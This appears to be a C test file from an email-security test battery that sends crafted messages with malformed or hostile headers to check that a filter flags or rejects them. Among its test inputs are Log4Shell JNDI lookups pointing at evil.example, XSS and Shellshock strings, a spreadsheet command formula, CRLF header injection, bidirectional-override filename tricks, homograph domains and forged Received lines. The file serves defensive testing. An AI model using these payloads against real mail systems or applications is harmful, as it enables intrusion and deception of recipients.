/* T086 to T097, T109 to T118, T121 to T123, T127 to T130, T171: the other fields. */
#include "battery/fixture.h"
#include "battery/signature.h"

#define QUAR_OR_REJECT (BATTERY_QUARANTINE | BATTERY_REJECT)
#define FLAG_OR_MORE (BATTERY_FLAG | QUAR_OR_REJECT)

static void no_to(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.to = STR_NULL;
	kit_send(k, "a", &m);
	m = kit_mail(k);
	m.to = STR("");
	kit_send(k, "c", &m);
	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, NULL);
	m = kit_mail(k);
	m.to = STR("undisclosed-recipients:;");
	kit_send(k, "b", &m);
}

static void no_subject(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR_NULL;
	kit_send(k, "a", &m);
	m.subject = STR("");
	kit_send(k, "b", &m);
}

static void no_date(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.date = STR_NULL;
	kit_send(k, "", &m);
}

static void send_dated(struct kit *k, const char *variant, str date)
{
	struct kit_mail m = kit_mail(k);

	m.date = date;
	kit_send(k, variant, &m);
}

static void bad_date(struct kit *k)
{
	send_dated(k, "a", STR("32 Foo 2024 25:61:00"));
	send_dated(k, "b", STR("Samedi, 21 Novembre 2026 18:59:57"));
	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, NULL);
	send_dated(k, "c", STR("Sat, 21 Nov 26 18:59:57 +0100"));
	send_dated(k, "d",
		   kit_fmt(k, "Sat, 21 Nov 2026 18:59:57 +0100 (%.*s)",
			   STR_ARG(kit_repeat(k, STR("x"), 500))));
}

static void old_date(struct kit *k)
{
	send_dated(k, "a", STR("Fri, 20 Nov 2026 17:59:57 +0100"));
	send_dated(k, "b", STR("Thu, 22 Oct 2026 18:59:57 +0200"));
	send_dated(k, "c", STR("Thu, 01 Jan 1970 00:00:00 +0000"));
}

static void future_date(struct kit *k)
{
	send_dated(k, "a", STR("Sat, 21 Nov 2026 22:01:57 +0100"));
	send_dated(k, "b", STR("Wed, 20 Jan 2038 00:00:00 +0000"));
	send_dated(k, "c", STR("Fri, 31 Dec 9999 23:59:59 +0000"));
}

static void send_identified(struct kit *k, const char *variant, str mid)
{
	struct kit_mail m = kit_mail(k);

	m.message_id = mid;
	kit_send(k, variant, &m);
}

static void no_message_id(struct kit *k)
{
	send_identified(k, "", STR_NULL);
}

static void bad_message_id(struct kit *k)
{
	send_identified(k, "a", STR("1234@partner.example"));
	send_identified(k, "b", STR("<12 34@partner.example>"));
	send_identified(k, "c", STR("<@>"));
	send_identified(
		k, "d",
		kit_fmt(k, "<%.*s@partner.example>", STR_ARG(kit_repeat(k, STR("a"), 2000))));
}

static void local_message_id(struct kit *k)
{
	kit_expect(k, FLAG_OR_MORE, "MID_RHS_NOT_FQDN");
	send_identified(k, "a", STR("<1@localhost>"));
	kit_expect(k, FLAG_OR_MORE, "MID_BARE_IP");
	send_identified(k, "b", STR("<1@203.0.113.5>"));
	kit_expect(k, FLAG_OR_MORE, "MID_RHS_IP_LITERAL");
	send_identified(k, "c", STR("<1@[203.0.113.5]>"));
}

static void foreign_message_id(struct kit *k)
{
	kit_expect(k, FLAG_OR_MORE, "MID_DOMAIN_NEQ_FROM_DOMAIN");
	send_identified(k, "a", STR("<1@other.example>"));
	kit_expect(k, FLAG_OR_MORE, "MID_CONTAINS_FROM");
	send_identified(k, "b",
			k->wrapping == KIT_ACSS ? STR("<1.test@nospf.example>")
						: STR("<1.marie.martin@partner.example>"));
	kit_expect(k, FLAG_OR_MORE, "MID_CONTAINS_TO");
	send_identified(k, "c", STR("<1.alice@hopital.example>"));
	kit_expect(k, FLAG_OR_MORE, "MID_RHS_MATCH_TO");
	send_identified(k, "d", STR("<1@hopital.example>"));
}

static void send_extra(struct kit *k, const char *variant, str lines)
{
	struct kit_mail m = kit_mail(k);

	m.extra = lines;
	kit_send(k, variant, &m);
}

static void two_subjects(struct kit *k)
{
	struct kit_mail m = kit_mail(k);
	const struct signature twice = { .domain = "partner.example",
					 .fields = "from:from:to:to:subject:subject:date" };

	send_extra(k, "a", STR("Subject: Autre sujet\r\n"));
	/* Behind the back of a signature that says there is only one. */
	kit_send_bytes(k, "b", &m,
		       kit_join(k,
				(const str[]){ STR("Subject: Autre sujet\r\n"),
					       signature_dkim(k, kit_bytes(k, &m), &twice) },
				2));
}

static void repeated(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	send_extra(k, "a", STR("To: bob@hopital.example\r\n"));
	m.cc = STR("bob@hopital.example");
	m.extra = STR("Cc: zoe@hopital.example\r\n");
	kit_send(k, "b", &m);
	send_extra(k, "e", STR("References: <1@a.example>\r\nReferences: <2@a.example>\r\n"));
	if (k->wrapping == KIT_ACSS)
		return; /* has neither of them once */
	send_extra(k, "c", STR("Date: Fri, 20 Nov 2026 18:00:00 +0100\r\n"));
	send_extra(k, "d", STR("Message-ID: <2@partner.example>\r\n"));
}

static void bidirectional(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?utf-8?Q?Facture_=E2=80=AEfdp=2Eexe?=");
	kit_send(k, "a", &m);
	m = kit_mail(k);
	kit_text(k, &m, STR("Voir =E2=80=AEhttps://evil.example/ ici"));
	kit_send(k, "b", &m);
	m = kit_mail(k);
	m.from = STR("=?utf-8?Q?Marie_=E2=80=AEnitraM=E2=80=AC?= <marie.martin@partner.example>");
	kit_send(k, "c", &m);
	m = kit_mail(k);
	m.to = STR("=?utf-8?Q?Alice_=E2=81=A6titeP=E2=81=A9_=E2=80=AExe?= <alice@hopital.example>");
	kit_send(k, "d", &m);
}

static void invisible(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.from = STR("=?utf-8?Q?Ma=E2=80=8Brie_Mar=E2=80=8Btin?= <marie.martin@partner.example>");
	kit_send(k, "a", &m);
	m = kit_mail(k);
	m.subject = STR("=?utf-8?Q?Do=C2=ADcu=C2=ADments_du_ser=C2=ADvice?=");
	kit_send(k, "b", &m);
	m = kit_party(k, "xn--hpital-wqf.example", "203.0.113.80",
		      STR("Accueil <accueil@xn--hpital-wqf.example>"));
	m.signer = NULL;
	kit_expect(k, FLAG_OR_MORE, "LOOKALIKE_OWN_DOMAIN|FROM_DOMAIN_HOMOGRAPH");
	kit_send(k, "c", &m);
}

static void subject_base64(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?utf-8?B?RG9jdW1lbnRzIGR1IHNlcnZpY2U=?=");
	kit_send(k, "", &m);
}

static void subject_qp(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?utf-8?Q?Documents_du_service?=");
	kit_send(k, "a", &m);
	m.subject = STR("=?utf-8?Q?=44=6F=63=75=6D=65=6E=74=73?=");
	kit_send(k, "b", &m);
}

static void other_encoded(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	kit_expect(k, FLAG_OR_MORE, "REPLYTO_EXCESS_BASE64");
	m.reply_to = STR("=?utf-8?B?TWFyaWUgTWFydGlu?= <marie.martin@partner.example>");
	kit_send(k, "a", &m);
	kit_expect(k, FLAG_OR_MORE, "REPLYTO_EXCESS_QP");
	m.reply_to = STR("=?utf-8?Q?Marie_Martin?= <marie.martin@partner.example>");
	kit_send(k, "b", &m);
	m = kit_mail(k);
	kit_expect(k, FLAG_OR_MORE, "TO_EXCESS_BASE64");
	m.to = STR("=?utf-8?B?QWxpY2UgUGV0aXQ=?= <alice@hopital.example>");
	kit_send(k, "c", &m);
	m = kit_mail(k);
	kit_expect(k, FLAG_OR_MORE, "CC_EXCESS_QP");
	m.cc = STR("=?utf-8?Q?Bob?= <bob@hopital.example>");
	kit_send(k, "d", &m);
	m = kit_mail(k);
	kit_expect(k, FLAG_OR_MORE, "TO_EXCESS_QP");
	m.to = STR("=?utf-8?Q?Alice_Petit?= <alice@hopital.example>");
	kit_send(k, "e", &m);
	m = kit_mail(k);
	kit_expect(k, FLAG_OR_MORE, "CC_EXCESS_BASE64");
	m.cc = STR("=?utf-8?B?Qm9i?= <bob@hopital.example>");
	kit_send(k, "f", &m);
}

/* As an encoded word, with an end for those who want a C string. */
static str nested(struct kit *k, str text)
{
	str b64 = kit_base64(k, text);
	struct strbuf b = strbuf_make(k->arena, 4096);

	strbuf_put(&b, STR("=?utf-8?B?"));
	for (size_t i = 0; i < b64.n; i++) {
		if (!str_is_space(b64.p[i]))
			strbuf_char(&b, b64.p[i]);
	}
	return kit_fmt(k, "%.*s?=", STR_ARG(strbuf_str(&b)));
}

static void nested_words(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?utf-8?B?PT91dGYtOD9CP1JtRmpkSFZ5WlE9PT89?=");
	kit_send(k, "a", &m);
	m.subject = nested(k, nested(k, nested(k, STR("Facture impay\xc3\xa9"
						      "e"))));
	kit_send(k, "b", &m);
	m = kit_mail(k);
	m.from = kit_fmt(k, "%.*s <marie.martin@partner.example>",
			 STR_ARG(nested(k, nested(k, STR("Marie Martin")))));
	kit_send(k, "c", &m);
	m = kit_mail(k);
	kit_expect(k, QUAR_OR_REJECT, NULL);
	kit_attach(k, &m, "application/octet-stream", nested(k, nested(k, STR("setup.exe"))).p,
		   fixture_com(k));
	kit_send(k, "d", &m);
}

static void broken_words(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?x-unknown?B?RmFjdHVyZQ==?=");
	kit_send(k, "a", &m);
	m.subject = STR("=?utf-8?X?RmFjdHVyZQ==?=");
	kit_send(k, "b", &m);
	m.subject = STR("=?utf-8?B?RmFjdHVyZQ== Facture");
	kit_send(k, "c", &m);
	m.subject = STR("=?utf-7?Q?+ADw-script+AD4-?=");
	kit_send(k, "d", &m);
	/* A character cut in two, blanks inside, and a word of 600 characters. */
	m.subject = STR("=?utf-8?Q?Pay=C3?= =?utf-8?Q?=A9?=");
	kit_send(k, "e", &m);
	m.subject = STR("=?utf-8?Q?Facture du mois?=");
	kit_send(k, "f", &m);
	m.subject = kit_fmt(k, "=?utf-8?Q?%.*s?=", STR_ARG(kit_repeat(k, STR("=C3=A9"), 100)));
	kit_send(k, "g", &m);
}

static void injected(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.subject = STR("=?utf-8?Q?a=0D=0ABcc:_v=40third.example?=");
	kit_send(k, "a", &m);
	m = kit_mail(k);
	m.from = STR("=?utf-8?Q?Marie=0AMartin?= <marie.martin@partner.example>");
	kit_send(k, "c", &m);
	m = kit_mail(k);
	kit_attach(k, &m, "text/plain",
		   "=?utf-8?Q?a=0D=0AContent-Type:_text/html=0D=0A.txt?=", fixture_txt(k));
	kit_send(k, "b", &m);
}

static void giant(struct kit *k)
{
	send_extra(k, "a", kit_fmt(k, "X-A: %.*s\r\n", STR_ARG(kit_repeat(k, STR("a"), 2000))));
	send_extra(k, "b", kit_fmt(k, "X-A: %.*s\r\n", STR_ARG(kit_repeat(k, STR("a"), 20000))));
	send_extra(k, "c", kit_fmt(k, "X-A: %.*s\r\n", STR_ARG(kit_repeat(k, STR("a"), 1000000))));
	send_extra(k, "d", kit_repeat(k, STR("X-A: a\r\n"), 10000));
	send_extra(k, "e",
		   kit_fmt(k, "Cc: x@a.example%.*s\r\n",
			   STR_ARG(kit_repeat(k, STR(",\r\n y@a.example"), 5000))));
}

static void folding(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	send_extra(k, "a", STR("X-A: a\r\n   \r\n b\r\n"));
	send_extra(k, "b", STR("X-A: =?utf-8?Q?a\r\n b?=\r\n \t \r\n"));
	kit_send_bytes(
		k, "c", &m,
		kit_join(k, (const str[]){ STR(" suite de rien\r\n"), kit_bytes(k, &m) }, 2));
	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, NULL);
	m.subject = STR("=?utf-8?Q?Documents\r\n du?= service");
	kit_send(k, "d", &m);
}

/* From somebody whose signature does not answer for the field. */
static void forged_by_us(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.signer = NULL;
	m.extra = STR("Received: from evil.example (evil.example [203.0.113.80]) by "
		      "mx1.hopital.example with ESMTP id 1; Sat, 21 Nov 2026 18:00:00 +0100\r\n");
	kit_expect(k, FLAG_OR_MORE, "FORGED_RECEIVED_OURS");
	kit_send(k, "b", &m);
	m.extra = STR("Received: from a.example (a.example [203.0.113.5]) by b.example (Postfix) "
		      "with ESMTP id 4ABCDEF012; Sat, 21 Nov 2026 18:00:00 +0100\r\n");
	kit_expect(k, FLAG_OR_MORE, "INVALID_POSTFIX_RECEIVED");
	kit_send(k, "c", &m);
}

static void forged_received(struct kit *k)
{
	send_extra(k, "a",
		   STR("Received: from [203.0.113.5] by mx.hopital.example; Mon, 01 Jan 2024 "
		       "10:00:00 +0000\r\n"));
	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED2");
	send_extra(k, "a2",
		   STR("Received: from 203.0.113.5 (HELO abcd) by mail.evil.example; Mon, 01 Jan "
		       "2024 10:00:00 +0000\r\n"));
	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED3");
	send_extra(k, "a3",
		   STR("Received: by mail.evil.example (8.11) id abcdef123456; Mon, 01 Jan 2024 "
		       "10:00:00 +0000 (Standard Time)\r\n"));
	kit_expect(k, FLAG_OR_MORE, "FORGED_GENERIC_RECEIVED4");
	send_extra(
		k, "a4",
		STR("Received: from abcd (203.0.113.5) by efgh with SMTP id 12; Mon, 01 Jan 2024 "
		    "10:00:00 +0000\r\n"));
	forged_by_us(k);
}

static void bytes_in_received(struct kit *k)
{
	send_extra(k, "a",
		   STR("Received: from h\xf4te (h\xf4te [203.0.113.5]) by x.example; Sat, 21 Nov "
		       "2026 18:00:00 +0100\r\n"));
	send_extra(k, "b",
		   STR("Received: from a\x07 ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 "
		       "18:00:00 +0100\r\n"));
	send_extra(
		k, "c",
		STR("Received: from a\0b ([203.0.113.5]) by x.example; Sat, 21 Nov 2026 18:00:00 "
		    "+0100\r\n"));
}

static void no_mime_version(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.mime_version = STR_NULL;
	kit_attach(k, &m, "text/plain", "notice.txt", fixture_txt(k));
	kit_send(k, "a", &m);
	kit_expect(k, QUAR_OR_REJECT, NULL);
	m = kit_mail(k);
	m.mime_version = STR_NULL;
	m.malicious = true;
	kit_attach(k, &m, "application/zip", "a.zip", fixture_zip1(k, "setup.exe", fixture_pe(k)));
	kit_send(k, "aM", &m);
	kit_expect(k, FLAG_OR_MORE, "MISSING_MIME_VERSION");
	m = kit_mail(k);
	m.mime_version = STR("2.0");
	kit_send(k, "b", &m);
	kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, "MULTIPLE_UNIQUE_HEADERS|DUPLICATE_MINOR");
	send_extra(k, "c", STR("MIME-Version: 1.0\r\n"));
}

static void type_only(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.mime_version = STR_NULL;
	m.entity =
		STR("Content-Type: text/html\r\n\r\n<html><body><p>Bonjour</p></body></html>\r\n");
	kit_send(k, "", &m);
}

/* The type of the whole message, with a body that only some cut into parts. */
static void broken_top(struct kit *k)
{
	static const struct {
		const char *variant, *type;
		uint32_t harmless;
	} tops[] = {
		{ "g", "multipart", FLAG_OR_MORE },
		{ "h", "multipart/", FLAG_OR_MORE },
		{ "i", "/mixed", FLAG_OR_MORE },
		{ "j", "ultipart/mixed", FLAG_OR_MORE },
		{ "k", "singlepart/mixed", FLAG_OR_MORE },
		{ "l", "\"multipart/mixed\"", FLAG_OR_MORE },
		{ "m", "=?utf-8?Q?multipart/mixed?=", FLAG_OR_MORE },
		/* Capitals are as good as small letters, and any multipart is read as mixed. */
		{ "n", "mULtiPArt/MIxed", BATTERY_ACCEPT | FLAG_OR_MORE },
		{ "o", "multipart/unknown", BATTERY_ACCEPT | FLAG_OR_MORE },
		{ "p", "multipart / mixed", BATTERY_ACCEPT | FLAG_OR_MORE },
	};

	for (size_t i = 0; i < ARRAY_LEN(tops); i++)
		kit_send_template(k, tops[i].variant, tops[i].harmless, NULL,
				  kit_fmt(k,
					  "Content-Type: %s; boundary=\"{b}\"\n\n--{b}\n{text}"
					  "--{b}\n{part}--{b}--\n",
					  tops[i].type)
					  .p);
}

static void broken_type(struct kit *k)
{
	static const char *const types[] = { "multipart",	   "text/", "/html",
					     "text/html; charset", ";;;",   "\"text/html\"" };

	for (size_t i = 0; i < ARRAY_LEN(types); i++) {
		struct kit_mail m = kit_mail(k);

		*arena_push(k->arena, &m.parts) =
			kit_fmt(k, "Content-Type: %s\r\n\r\nBonjour\r\n", types[i]);
		kit_expect(k, BATTERY_ACCEPT | FLAG_OR_MORE, i == 3 ? NULL : "BROKEN_CONTENT_TYPE");
		kit_send(k, kit_fmt(k, "%cB", (int)('a' + i)).p, &m);
	}
	broken_top(k);
}

static void unknown_type(struct kit *k)
{
	struct kit_mail m;

	kit_send_attached(k, "a", "foo/bar", "a.dat", fixture_txt(k));
	kit_send_attached(k, "b", "application/x-zzz", "a.dat", fixture_txt(k));
	m = kit_mail(k);
	*arena_push(k->arena, &m.parts) = kit_part_base64(
		k, STR("Content-Disposition: attachment; filename=\"a.dat\"\r\n"), fixture_txt(k));
	kit_send(k, "c", &m);
	kit_send_attached(k, "d", "chemical/x-zzz", "a.dat", fixture_txt(k));
}

static void script_elsewhere(struct kit *k)
{
	struct kit_mail m = kit_mail(k);

	m.from = STR("\"<script>alert(1)</script>\" <marie.martin@partner.example>");
	kit_send(k, "f1", &m);
	m.from = STR(
		"=?utf-8?B?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?= <marie.martin@partner.example>");
	kit_send(k, "f2", &m);
	m = kit_mail(k);
	m.message_id = STR("<${jndi:ldap://evil.example/a}@partner.example>");
	kit_send(k, "g", &m);
	kit_send_attached(k, "h1", "text/plain", "<img src=x onerror=alert(1)>.txt",
			  fixture_txt(k));
	kit_send_attached(k, "h2", "text/plain", "${jndi:ldap://evil.example/a}.txt",
			  fixture_txt(k));
	m = kit_mail(k);
	m.subject = STR("%n%n%n%s%s%s");
	kit_send(k, "i", &m);
	m.subject = STR("=cmd|' /C calc'!A0");
	kit_send(k, "j", &m);
	m = kit_mail(k);
	m.extra = STR("X-Test: ${${lower:j}ndi:ldap://evil.example/a}\r\n");
	kit_send(k, "k", &m);
}

static void script_in_fields(struct kit *k)
{
	static const char *const texts[] = { "<img src=x onerror=alert(1)>", "</script><script>",
					     "\x1b[31mrouge", "() { :;}; /bin/true",
					     "${jndi:ldap://evil.example/a}" };

	for (size_t i = 0; i < ARRAY_LEN(texts); i++) {
		struct kit_mail m = kit_mail(k);

		m.subject = str_c(texts[i]);
		kit_send(k, kit_fmt(k, "%c", (int)('a' + i)).p, &m);
	}
	script_elsewhere(k);
}

#define FLAGGED(id, what, symbols, make)                                                           \
	{                                                                                          \
		id, "header", what, FLAG_OR_MORE, symbols, make, false                             \
	}

const struct battery_case cases_header[] = {
	FLAGGED("T086", "No To", "MISSING_TO", no_to),
	FLAGGED("T087", "No Subject", "MISSING_SUBJECT", no_subject),
	FLAGGED("T088", "No Date", "MISSING_DATE", no_date),
	FLAGGED("T089", "A Date that is none", "INVALID_DATE|BAD_DATE", bad_date),
	FLAGGED("T090", "A Date in the past", "DATE_IN_PAST", old_date),
	FLAGGED("T091", "A Date in the future", "DATE_IN_FUTURE", future_date),
	FLAGGED("T092", "No Message-ID", "MISSING_MID|MISSING_MESSAGE_ID", no_message_id),
	FLAGGED("T093", "A Message-ID that is none", "INVALID_MSGID|MID_MISSING_BRACKETS",
		bad_message_id),
	FLAGGED("T094", "A Message-ID without a domain", NULL, local_message_id),
	FLAGGED("T095", "A Message-ID of another domain", NULL, foreign_message_id),
	FLAGGED("T096", "Two Subject fields", "MULTIPLE_UNIQUE_HEADERS", two_subjects),
	FLAGGED("T097", "Other fields twice", "MULTIPLE_UNIQUE_HEADERS", repeated),
	FLAGGED("T109", "Characters that change the direction", NULL, bidirectional),
	FLAGGED("T110", "Invisible characters", NULL, invisible),
	FLAGGED("T111", "Subject needlessly in base64", "SUBJ_EXCESS_BASE64", subject_base64),
	FLAGGED("T112", "Subject needlessly in quoted-printable", "SUBJ_EXCESS_QP", subject_qp),
	FLAGGED("T113", "Other fields needlessly encoded", NULL, other_encoded),
	FLAGGED("T114", "Encoded words in encoded words", NULL, nested_words),
	FLAGGED("T115", "Broken encoded words", NULL, broken_words),
	{ "T116", "header", "Header fields injected by encoded words", BATTERY_REJECT, NULL,
	  injected, false },
	FLAGGED("T117", "Giant header fields", NULL, giant),
	FLAGGED("T118", "Odd folding", NULL, folding),
	FLAGGED("T121", "Forged Received", "FORGED_GENERIC_RECEIVED", forged_received),
	FLAGGED("T122", "Illegal characters in Received", "RCVD_ILLEGAL_CHARS", bytes_in_received),
	FLAGGED("T127", "No MIME-Version", "MISSING_MIME_VERSION", no_mime_version),
	FLAGGED("T128", "Content-Type alone", "MIME_HEADER_CTYPE_ONLY", type_only),
	FLAGGED("T129", "Broken Content-Type", NULL, broken_type),
	FLAGGED("T130", "A MIME type nobody knows", "MIME_UNKNOWN", unknown_type),
	FLAGGED("T171", "Commands for other programs in fields", NULL, script_in_fields),
	{ 0 }
};
